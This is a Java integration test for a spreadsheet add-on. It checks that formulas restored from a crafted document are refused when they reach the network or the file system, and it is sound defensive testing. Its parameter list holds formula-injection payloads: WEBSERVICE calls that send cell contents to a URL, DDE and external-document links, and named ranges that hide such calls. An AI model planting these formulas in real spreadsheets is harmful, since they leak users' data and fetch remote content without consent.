package org.snugsheet.office.sharing;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.star.beans.PropertyAttribute;
import com.sun.star.beans.XPropertyContainer;
import com.sun.star.document.XDocumentPropertiesSupplier;
import com.sun.star.sheet.XNamedRanges;
import com.sun.star.sheet.XSheetAnnotationsSupplier;
import com.sun.star.table.CellAddress;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.snugsheet.office.functions.FunctionIndex;
import org.snugsheet.office.harness.CalcDocument;
import org.snugsheet.office.harness.FileFormat;
import org.snugsheet.office.harness.Office;
import org.snugsheet.office.harness.SharedOffice;
import org.snugsheet.office.menu.Menu;
import org.snugsheet.office.menu.MenuItem;
import org.snugsheet.office.uno.Uno;
import org.snugsheet.office.words.Language;

/** Copies that somebody crafted to make the office fetch, start or overwrite something when the formulas are brought back. */
@ExtendWith(SharedOffice.class)
class HostileCopyIT {

    /** A call comes at once or not at all, in milliseconds. */
    private static final long LATE = 500;

    private static final String EXPECTED = "expected/";

    /** The formulas that name an address here, each by its place in the path. */
    private static final List<String> FORMULAS = new ArrayList<>();

    private static final List<String> HEARD = new CopyOnWriteArrayList<>();
    private static ServerSocket socket;

    /** A call here, but for the one that is expected, means that the office was tricked. */
    @BeforeAll
    static void listen() throws IOException {
        socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread listener = new Thread(() -> {
            while (!socket.isClosed()) {
                try (Socket caller = socket.accept()) {
                    HEARD.add(wanted(caller));
                } catch (IOException closed) {
                    return;
                }
            }
        });
        listener.setDaemon(true);
        listener.start();
    }

    /** A call may come late: it is waited for once, and tells by its path which formula made it. */
    @AfterAll
    static void stop() throws Exception {
        Thread.sleep(LATE);
        socket.close();
        assertNobodyCalled();
    }

    private static String wanted(Socket caller) {
        try {
            caller.setSoTimeout((int) LATE);
            return new BufferedReader(new InputStreamReader(caller.getInputStream(), StandardCharsets.US_ASCII))
                    .lines()
                    .findFirst()
                    .orElse("nothing");
        } catch (IOException | UncheckedIOException silent) {
            return "nothing";
        }
    }

    private static void assertNobodyCalled() {
        List<String> calls =
                HEARD.stream().filter(call -> !call.contains(EXPECTED)).toList();
        assertEquals(List.of(), calls, FORMULAS.toString());
    }

    /** The socket does hear a call of the office’s: otherwise the tests below could not fail. */
    @Test
    void theSocketHearsTheOffice(Office office) throws Exception {
        try (CalcDocument sheet = office.newDocument()) {
            sheet.formula("A1", harmful("WEBSERVICE(\"{url}" + EXPECTED + "\")").substring(1));
            sheet.at("A1");
            for (int i = 0; i < 10 && HEARD.stream().noneMatch(call -> call.contains(EXPECTED)); i++) {
                Thread.sleep(LATE / 10);
            }
            assertTrue(HEARD.stream().anyMatch(call -> call.contains(EXPECTED)), HEARD.toString());
        }
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                Arguments.of("=WEBSERVICE(\"{url}?\"&A1)", "WEBSERVICE"),
                Arguments.of("=SUM(COOL.RATE(A1:A5;B1:B5;C1);LEN(WEBSERVICE(\"{url}\")))", "WEBSERVICE"),
                Arguments.of("=COOL.RATE(A1:A5;B1:B5;WEBSERVICE(\"{url}\"))", "WEBSERVICE"),
                Arguments.of("=COOL.RATE(A1:A5;B1:B5;FILTERXML(WEBSERVICE(\"{url}\");\"//a\"))", "FILTERXML"),
                Arguments.of("=CHECK.READINGS(A1:A5;B1:B5;C1)&HYPERLINK(\"{url}\";\"click\")", "HYPERLINK"),
                Arguments.of("='{url}x.ods'#$Sheet1.A1", "another document"),
                Arguments.of("=COOL.RATE('{url}x.ods'#$Sheet1.A1:A5;B1:B5;C1)", "another document"),
                Arguments.of("=COOL.RATE('{url}x.ods'#name;B1:B5;C1)", "another document"),
                Arguments.of("=COOL.RATE(INDIRECT(\"'{url}x.ods'#$Sheet1.A1\");B1:B5;C1)", "INDIRECT"),
                Arguments.of("=COOL.RATE(DDE(\"soffice\";\"{url}x.ods\";\"Sheet1.A1\");B1:B5;C1)", "DDE"),
                Arguments.of("=COOL.RATE(A1:A5;B1:B5;INFO(\"directory\"))", "INFO"),
                Arguments.of("=COOL.RATE(A1:A5;B1:B5;CELL(\"filename\"))", "CELL"),
                Arguments.of("=COOL.RATE(A1:A5;B1:B5;evil)", "WEBSERVICE"),
                Arguments.of("=COOL.RATE(A1:A5;B1:B5;deep)", "WEBSERVICE"),
                Arguments.of("=COOL.RATE(A1:A5;B1:B5;SOMEMACRO(1))", "somemacro"),
                Arguments.of("=COOL.RATE(A1:A5;B1:B5;ORG.EXAMPLE.OTHER.CALL(1))", "org.example.other.call"),
                Arguments.of("=STYLE(\"Result\")+COOL.RATE(A1:A5;B1:B5;C1)", "STYLE"),
                Arguments.of("=SUM(A1:A5)", "none of our functions"),
                Arguments.of("just words", "no formula"),
                Arguments.of("=\"COOL.RATE(1)\"", "none of our functions"));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void isNotWritten(String formula, String reason, Office office, @TempDir Path folder) throws Exception {
        Path copy = folder.resolve("crafted.ods");
        try (CalcDocument sheet = crafted(office, harmful(formula))) {
            sheet.saveAs(copy, FileFormat.ODS);
        }
        try (CalcDocument sheet = office.open(copy)) {
            String told = Menu.choose(office, sheet, MenuItem.BRING_BACK, Menu.QUIET);
            assertTrue(told.contains("Not written: 1"), told);
            assertTrue(told.contains(reason), told);
            assertEquals("", sheet.formulaAt("D1"), told);
            assertEquals(7, sheet.at("D1").number());
        }
        assertNobodyCalled();
    }

    /** Where the answer of the note is gone, nothing is written over. */
    @Test
    void cellsWithoutTheNoteOrWithSomethingElseAreLeftAlone(Office office) {
        try (CalcDocument sheet = crafted(office, stored("=COOL.RATE(A1:A5;B1:B5;C1)"))) {
            keep(office, sheet, "Sheet1&C1&single&" + encoded(stored("=COOL.RATE(A1:A5;B1:B5;C1)")) + "&-", 2);
            keep(
                    office,
                    sheet,
                    "Sheet1&D2&single&" + encoded(stored("=2*COOL.RATE(A1:A5;B1:B5;C1)")) + "&-&answers=n8.0",
                    3);
            note(office, sheet, 3, 1, "=2*COOL.RATE(A1:A5;B1:B5;C1)");
            sheet.number("D2", 9);
            String told = Menu.choose(office, sheet, MenuItem.BRING_BACK, Menu.QUIET);
            assertTrue(told.contains("back in their cells: 1."), told);
            assertTrue(told.contains("Sheet1.C1:  No cell has its note any more."), told);
            assertTrue(told.contains("Sheet1.D2:  Something else was typed there. It stays."), told);
            assertEquals(10, sheet.at("C1").number());
            assertEquals(9, sheet.at("D2").number());
            assertTrue(sheet.formulaAt("D1").contains("COOL.RATE"));
        }
    }

    /** What is shown before it is done. */
    @Test
    void allIsShownWithItsReasonBeforeAnythingIsWritten(Office office) {
        try (CalcDocument sheet = crafted(office, stored("=COOL.RATE(A1:A5;B1:B5;C1)"))) {
            keep(
                    office,
                    sheet,
                    "Sheet1&D2&single&" + encoded(harmful("=COOL.RATE(WEBSERVICE(\"{url}\");B1:B5;C1)")) + "&-",
                    2);
            note(office, sheet, 3, 1, FunctionIndex.asTyped(harmful("=COOL.RATE(WEBSERVICE(\"{url}\");B1:B5;C1)")));
            sheet.number("D2", 1);
            String told = office.call(
                    "proposing", () -> BringBack.proposed(sheet.uno()).told(Language.ENGLISH));
            assertTrue(told.startsWith("Formulas to be written into their cells: 1.\nSheet1.D1:  =COOL.RATE("), told);
            assertTrue(
                    told.contains("Sheet1.D2:  It calls WEBSERVICE. A formula out of a file may not use that."), told);
            assertFalse(sheet.formulaAt("D1").contains("COOL"));
        }
    }

    /** Formulas that people do write, with functions of the office in and around Snugsheet’s. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=IF(COUNT(B1:B5)<3;\"\";ROUND(COOL.RATE(A1:A5;B1:B5;C1);4))",
                "=IFERROR(COOL.RATE(A$1:A$5;$B1:$B5;C1)*60;\"–\")",
                "=COOL.RATE(OFFSET(A1;0;0;5;1);INDEX(A1:B5;0;2);MAX(C1;0))",
                "=COOL.RATE(A1:A5;B1:B5;fine)&TEXT(TODAY();\"YYYY\")",
                "=CHECK.VERSION()",
                "=EDATE(1;2)+COOL.RATE(A1:A5;B1:B5;10%;;\"C\")",
                "=SUMPRODUCT({1;2|3;4})+COOL.RATE(A1:A5;B1:B5;-C1)"
            })
    void whatIsHarmlessComesBack(String formula, Office office) {
        String kept;
        try (CalcDocument sheet = office.newDocument()) {
            kept = sheet.formula("D1", formula.substring(1)).formulaAt("D1");
        }
        try (CalcDocument sheet = crafted(office, kept)) {
            String told = Menu.choose(office, sheet, MenuItem.BRING_BACK, Menu.QUIET);
            assertEquals(kept, sheet.formulaAt("D1"), told);
        }
    }

    /** A copy as an early version wrote it, with one formula for D1, whose answer is 7. */
    private static CalcDocument crafted(Office office, String formula) {
        CalcDocument sheet = office.newDocument();
        sheet.numbersDown("A1", 0, 5, 10, 15, 20)
                .numbersDown("B1", 40, 34, 30, 26, 24)
                .number("C1", 10)
                .number("D1", 7);
        keep(office, sheet, "Sheet1&D1&single&" + encoded(formula) + "&-", 1);
        note(office, sheet, 3, 0, FunctionIndex.asTyped(formula));
        office.call("naming", () -> {
            XNamedRanges names = Uno.as(XNamedRanges.class, Uno.property(sheet.uno(), "NamedRanges"));
            CellAddress at = new CellAddress((short) 0, 0, 0);
            names.addNewByName("fine", "$Sheet1.$C$1+1", at, 0);
            names.addNewByName(
                    "evil", harmful("=COOL.RATE(WEBSERVICE(\"{url}\");1;1)").substring(1), at, 0);
            names.addNewByName("deep", "evil+1", at, 0);
            return true;
        });
        return sheet;
    }

    private static void keep(Office office, CalcDocument sheet, String line, int number) {
        office.call("keeping", () -> {
            XPropertyContainer properties = Uno.as(XDocumentPropertiesSupplier.class, sheet.uno())
                    .getDocumentProperties()
                    .getUserDefinedProperties();
            properties.addProperty("Snugsheet formula 0000" + number, PropertyAttribute.REMOVABLE, line);
            return true;
        });
    }

    private static void note(Office office, CalcDocument sheet, int column, int row, String text) {
        office.call("noting", () -> {
            Uno.as(XSheetAnnotationsSupplier.class, Uno.sheets(sheet.uno()).get(0))
                    .getAnnotations()
                    .insertNew(new CellAddress((short) 0, column, row), text);
            return true;
        });
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private static String harmful(String formula) {
        String text = formula.startsWith("=") || !formula.contains("{url}") ? formula : "=" + formula;
        if (!FORMULAS.contains(formula)) {
            FORMULAS.add(formula);
        }
        String address = "http://127.0.0.1:" + socket.getLocalPort() + "/" + FORMULAS.indexOf(formula) + "/";
        return stored(text).replace("{url}", address);
    }

    /** As files hold the names of Snugsheet functions. */
    private static String stored(String formula) {
        return formula.replaceAll("\\b(COOL|CHECK)\\.", "SNUGSHEET.$1.");
    }
}
